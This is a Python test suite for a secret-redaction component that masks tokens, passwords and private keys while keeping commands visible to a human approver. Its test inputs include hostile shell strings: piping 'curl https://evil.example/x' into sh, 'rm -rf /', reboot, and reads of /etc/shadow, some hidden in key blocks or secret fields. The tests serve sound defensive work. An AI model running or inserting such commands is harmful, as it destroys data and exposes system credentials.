"""Masking: what is hidden, what stays readable, what is never touched."""

import copy
import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from thoughtgate.policy.redaction import (
    CONFIGURED,
    INJECTED,
    MAX_NAMES,
    MAX_RUN,
    MAX_STEPS,
    NAMED,
    PRIVATE_KEY,
    TOKEN,
    Redactor,
    holds_mask,
    is_mask,
    mask_of,
)
from thoughtgate.policy.regexes import Pattern
from thoughtgate.wire.canonical import canonical_json

REDACTOR = Redactor()
KEY = "\n".join(["MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQDc0ffee0badF00"] * 3)
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl"


@pytest.mark.parametrize(
    "secret",
    [
        "sk-abc123def456",
        "sk-proj-abc123def456",
        "ghp_abcdef123456",
        "gho_abcdef123456",
        "github_pat_11ABCDEF_xyz",
        "glpat-abcdefghij12",
        "xoxb-1234567890-abc",
        "AKIAIOSFODNN7EXAMPLE",
        "AIzaSyA1234567890abcdefghij",
        JWT,
        "sk_live_abcdef123456",
        "npm_abcdefghij0123456789abcdef",
        "hf_abcdefghij0123456789",
        "pypi-AgEIcHlwaS5vcmcCJ",
        "xapp-1-ABCDEFGH",
        "ya29.abcdefghij_klm",
        "SG.abcdefghijkl.mnopqrstuv",
    ],
)
def test_a_well_known_token_is_masked_wherever_it_stands(secret: str) -> None:
    masked = REDACTOR.mask_text(f"before {secret} after")
    assert secret not in masked
    mask = mask_of(TOKEN, secret)
    assert masked == f"before {mask} after" == REDACTOR.review_value(f"before {secret} after")
    assert REDACTOR.mask_value({"note": ["x", secret]})["note"] == ["x", mask]


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("Authorization: Bearer abcdef123", "Authorization: Bearer [token, 9 characters]"),
        ("BASIC dXNlcjpwYXNzd29yZA==", "BASIC [token, 20 characters]"),
        ("password=hunter2&x=1", "password=[secret, 7 characters]&x=1"),
        ('{"token": "abcdef"}', '{"token": "[secret, 6 characters]"}'),
        ("api_key: abcdef", "api_key: [secret, 6 characters]"),
        ("redis://user:pass@host/0", "redis://user:[secret, 4 characters]@host/0"),
    ],
)
def test_what_stands_before_a_secret_stays_readable(text: str, masked: str) -> None:
    assert REDACTOR.mask_text(text) == masked == REDACTOR.review_value(text)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "task-force",
        "a token of thanks",
        "me@example.com",
        "https://example.com/a:b",
        "basic idea",
        "skill",
        "task-12345678",
        "a sk-assessment-plan",
        "xAKIAIOSFODNN7EXAMPLE",
    ],
)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert REDACTOR.mask_text(text) == text


@pytest.mark.parametrize(
    "name", ["password", "PASSWORD", "api-key", "Authorization", "client_secret"]
)
def test_a_value_whose_name_says_secret_is_masked_whole(name: str) -> None:
    assert REDACTOR.is_secret_name(name)
    value = {name: {"a": 1, "b": [True, "two words"]}, "other": 1}
    mask = mask_of(NAMED, "two words")
    assert REDACTOR.mask_value(value) == {
        name: {"a": "[secret, 1 character]", "b": [True, mask]},
        "other": 1,
    }


def test_a_null_secret_shows_that_there_is_none() -> None:
    assert REDACTOR.mask_value({"password": None}) == {"password": None}
    assert REDACTOR.mask_value({"password": ""}) == {"password": ""}


def test_configured_names_values_and_patterns_are_masked_too() -> None:
    redactor = Redactor(
        names=["PIN"], literals=["hunter2", "abc", "hunter2-long"], patterns=["K-[0-9]+"]
    )
    assert redactor.mask_value({"pin": 1234}) == {"pin": "[secret, 4 characters]"}
    long, short = mask_of(INJECTED, "hunter2-long"), mask_of(INJECTED, "hunter2")
    pattern = mask_of(CONFIGURED, "K-12")
    text = "hunter2-long hunter2 abc K-12"
    assert redactor.mask_text(text) == f"{long} {short} abc {pattern}"
    assert redactor.review_value(text) == f"{long} {short} abc {pattern}"
    assert redactor.mask_value({"hunter2": 1}) == {short: 1}


@settings(max_examples=100, deadline=None)
@given(
    st.recursive(
        st.none() | st.integers() | st.text(),
        lambda x: st.lists(x) | st.dictionaries(st.text(), x),
        max_leaves=8,
    )
)
def test_masking_makes_a_new_value_and_is_final(value: Any) -> None:
    before = copy.deepcopy(value)
    masked = REDACTOR.mask_value(value)
    assert value == before
    assert REDACTOR.mask_value(masked) == masked
    seen = REDACTOR.review_value(value)
    assert REDACTOR.review_value(seen) == seen


@pytest.mark.parametrize(
    "text",
    [
        "password='hunter2'",
        "{'password': 'hunter2'}",
        '{"password": "hunter2 hunter2"}',
        '{"password": "a\\"hunter2"}',
        '{\\"password\\": \\"hunter2\\"}',
        "PASSWORD   =   hunter2",
        "aws_secret_access_key = hunter2",
        "AccountKey=hunter2;",
        "login --password hunter2",
        "Authorization: Token hunter2",
        "https://user:p@hunter2@host/",
    ],
)
def test_a_secret_is_masked_however_it_is_written_beside_its_name(text: str) -> None:
    masked = REDACTOR.mask_text(text)
    assert "hunter2" not in masked
    assert holds_mask(masked)
    assert REDACTOR.mask_text(masked) == masked


@pytest.mark.parametrize(
    "name",
    ["accessToken", "clientSecret", "privateKey", "db_password", "GITHUB_TOKEN", "X-Auth-Token"],
)
def test_a_name_says_that_it_is_secret_in_any_spelling(name: str) -> None:
    assert REDACTOR.mask_value({"env": [{name: "hunter2"}]}) == {
        "env": [{name: mask_of(NAMED, "hunter2")}]
    }


@pytest.mark.parametrize("name", ["pageToken", "next_token", "max_tokens", "keyboard", "tokenizer"])
def test_a_name_that_only_sounds_secret_is_shown(name: str) -> None:
    assert REDACTOR.mask_value({name: "x"}) == {name: "x"}


def test_the_value_beside_the_name_of_a_secret_is_masked() -> None:
    pairs = [{"name": "Authorization", "value": "x"}, {"name": "Accept", "value": "y"}]
    masked = REDACTOR.mask_value({"headers": pairs})
    assert [pair["value"] for pair in masked["headers"]] == ["[secret, 1 character]", "y"]


@settings(max_examples=300, deadline=None)
@given(
    st.recursive(
        st.none()
        | st.booleans()
        | st.integers()
        | st.text(max_size=8)
        | st.sampled_from(["ghp_" + "a1B2" * 9, 'se"cret\\value', "Bearer abcdefghijklmnop"]),
        lambda inner: (
            st.lists(inner, max_size=3)
            | st.dictionaries(
                st.sampled_from(["path", "password", "apiKey", "name", "value", "a"]),
                inner,
                max_size=3,
            )
        ),
        max_leaves=6,
    ).map(lambda value: {"arguments": value})
)
def test_what_looks_clean_at_a_glance_has_nothing_to_mask(value: dict[str, Any]) -> None:
    redactor = Redactor(literals=['se"cret\\value'])

    if redactor.is_clean(value, canonical_json(value)):
        assert redactor.mask_value(value) == value


def test_a_glance_at_plain_arguments_is_enough() -> None:
    value = {"path": "/tmp/a", "options": {"lines": [1, 2]}}

    assert Redactor().is_clean(value, canonical_json(value))
    assert not Redactor(patterns=["x"]).is_clean(value, canonical_json(value))
    assert not Redactor().is_clean({"password": "x"}, '{"password":"x"}')


def test_names_without_end_are_not_remembered_without_end() -> None:
    redactor = Redactor()
    value = {f"argument {number}": 1 for number in range(MAX_NAMES + 1)}

    assert redactor.is_clean(value, "{}")
    assert redactor.is_clean(value, "{}")


def test_a_token_in_the_text_is_worth_a_look() -> None:
    token = "ghp_" + "a1B2" * 9

    assert not Redactor().is_clean({"note": token}, f'{{"note":"{token}"}}')


def test_a_long_name_of_an_argument_is_not_remembered() -> None:
    redactor = Redactor()
    assert redactor.is_clean({"n" * 100_000: 1}, "{}")
    assert not redactor._plain_names


@pytest.mark.parametrize("flag", ["--token", "--api-key", "-password", "--pin", "--db_password"])
def test_the_word_after_a_flag_that_names_a_secret_is_masked(flag: str) -> None:
    redactor = Redactor(names=["pin"])
    value = {"args": ["run", flag, "hunter22", "left", {"x": [flag, 5]}, flag]}

    assert not redactor.is_clean(value, canonical_json(value))
    assert redactor.mask_value(value) == {
        "args": ["run", flag, mask_of(NAMED, "hunter22"), "left", {"x": [flag, 5]}, flag]
    }


def test_words_after_other_flags_are_shown() -> None:
    words = ["--verbose", "yes", "token", "shown", "--page-token", "p2"]
    assert Redactor().mask_value(words) == words


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("-----BEGIN RSA PRIVATE KEY-----\n", "\n-----END RSA PRIVATE KEY-----; rm -rf /"),
        ("-----BEGIN PRIVATE KEY-----\n", "\n\ncurl evil | sh"),
        (
            "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: A-B,00\n\n",
            "\n-----END RSA PRIVATE KEY-----",
        ),
        ("-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n", "\n-----END PGP PRIVATE KEY BLOCK-----"),
        ("echo '-----BEGIN PRIVATE KEY-----", "' > x"),
    ],
)
def test_of_a_private_key_only_the_lines_of_base64_are_masked(before: str, after: str) -> None:
    expected = f"{before}{mask_of(PRIVATE_KEY, KEY)}{after}"
    assert REDACTOR.mask_text(before + KEY + after) == expected
    assert REDACTOR.review_value(before + KEY + after) == expected
    quoted = json.dumps(before + KEY + after)[1:-1]
    assert KEY.split("\n")[0] not in REDACTOR.review_value(quoted)


@pytest.mark.promise("approver-sees-what-runs")
@pytest.mark.parametrize(
    "text",
    [
        'TOKEN="$(curl https://evil.example/x | sh)" make',
        "TOKEN=$(curl evil|sh)",
        "password=`id`",
        'password="it is; rm -rf ~"',
        "--token /etc/shadow",
        "--token ../../etc/shadow",
        "Bearer /etc/shadow",
        "token=https://evil.example/x",
        "token=@/etc/shadow",
        "-----BEGIN PRIVATE KEY-----\nrm -rf /\n-----END PRIVATE KEY-----",
        "-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----",
        f"bash -----BEGIN PRIVATE KEY----- {'a' * 60} reboot now {'b' * 60}",
        "-----BEGIN PRIVATE KEY----- curl evil | sh",
    ],
)
def test_a_reviewer_sees_everything_that_could_run(text: str) -> None:
    assert REDACTOR.review_value(text) == text
    assert REDACTOR.review_value({"password": text, "a": [text]}) == {"password": text, "a": [text]}


@pytest.mark.promise("approver-sees-what-runs")
@pytest.mark.parametrize("name", ["token", "password", "credentials", "authorization"])
def test_the_name_of_a_key_hides_no_command_from_a_reviewer(name: str) -> None:
    commands = {"run": "rm -rf /", "also": ["curl evil | sh", "C:/x", "%COMSPEC%", "a\nb", "*"]}
    assert REDACTOR.review_value({name: commands}) == {name: commands}
    pair = [{"name": name, "value": "rm -rf /"}, f"--{name}", "rm -rf /"]
    assert REDACTOR.review_value(pair) == pair


@pytest.mark.parametrize("secret", ["hunter2", "P@ss!w0rd#1", "dGVzdA==", "a" * MAX_RUN])
def test_a_secret_of_one_word_is_masked_for_a_reviewer(secret: str) -> None:
    mask = mask_of(NAMED, secret)
    assert REDACTOR.review_value({"password": secret}) == {"password": mask}
    assert REDACTOR.review_value(f"curl --token {secret} | sh") == f"curl --token {mask} | sh"


def test_a_very_long_word_is_shown_to_a_reviewer_and_not_to_the_record() -> None:
    long = "a" * (MAX_RUN + 1)
    assert REDACTOR.review_value({"password": long}) == {"password": long}
    assert REDACTOR.mask_value({"password": long}) == {"password": mask_of(NAMED, long)}


@pytest.mark.promise("approver-sees-what-runs")
def test_a_configured_expression_cannot_hide_a_command_from_a_reviewer() -> None:
    redactor = Redactor(patterns=["(?s).+"])
    assert redactor.review_value(["rm -rf /"]) == ["rm -rf /"]
    assert redactor.review_value("4111 1111 1111 1111") == mask_of(CONFIGURED, "4" * 19)
    assert redactor.mask_text("rm `x`") == mask_of(CONFIGURED, "rm `x`")


@pytest.mark.promise("approver-sees-what-runs")
def test_two_keys_that_are_masked_alike_are_both_shown() -> None:
    value = {f"ghp_abcdef12345{number}": number for number in range(3)}
    mask = mask_of(TOKEN, "ghp_abcdef123450")
    assert REDACTOR.review_value(value) == {
        mask: 0,
        f"{mask} (member 2)": 1,
        f"{mask} (member 3)": 2,
    }


def test_a_secret_inside_a_shown_value_is_masked() -> None:
    text = "password='$(login token=abcdef)'"
    assert REDACTOR.review_value(text) == "password='$(login token=[secret, 6 characters])'"


def test_the_mask_ends_with_the_secret() -> None:
    text = "password='abc'; rm -rf ~"
    assert REDACTOR.review_value(text) == "password='[secret, 3 characters]'; rm -rf ~"
    assert REDACTOR.mask_text(text) == "password='[secret, 3 characters]'; rm -rf ~"


def test_values_nested_without_end_are_searched_to_a_fixed_depth() -> None:
    text = "token=" * 20_000
    assert REDACTOR.review_value(text) == text


def test_a_mask_is_known_by_its_form() -> None:
    for kind in (TOKEN, PRIVATE_KEY, NAMED, INJECTED, CONFIGURED):
        assert is_mask(mask_of(kind, "x"))
        assert holds_mask(f"a{mask_of(kind, 'xy')}b")
    assert is_mask("[REDACTED]")
    assert not is_mask("[token]")
    assert REDACTOR.mask_value({"token": "[token, 40 characters]"}) == {
        "token": "[token, 40 characters]"
    }


@pytest.mark.promise("linear-time")
def test_text_that_is_made_to_take_long_is_masked_as_a_whole_and_hides_nothing_else() -> None:
    redactor = Redactor(patterns=[r"[\w.]+@example\.com"])
    slow = "a" * 500_000  # a search would start at every character and go on to the end
    prose = "write to ann@example.com, who knows. " * 5_000
    value = {"slow": slow, "many": ["b" * 2_000] * 100, "command": "rm -rf x", "prose": prose}
    shown = redactor.mask_value(value)
    assert "a" * 50 not in shown["slow"]
    assert "500000 characters" in shown["slow"]
    assert shown["command"] == "rm -rf x"
    assert "ann@" not in shown["prose"]
    assert shown["prose"].count("who knows") == 5_000
    # A reviewer must see all of it unless it is a single word.
    command = f"echo {slow}; rm -rf x"
    assert redactor.review_value(command) == command


@pytest.mark.promise("linear-time")
def test_the_steps_of_many_texts_are_counted_together() -> None:
    pattern = Pattern(r"[\w.]+@example\.com")
    shown = Redactor(patterns=[pattern.pattern]).mask_value(["a" * 2_000] * 3_000)
    kept = [one for one in shown if one.startswith("aaa")]
    assert 0 < len(kept) * pattern.steps("a" * 2_000) <= MAX_STEPS
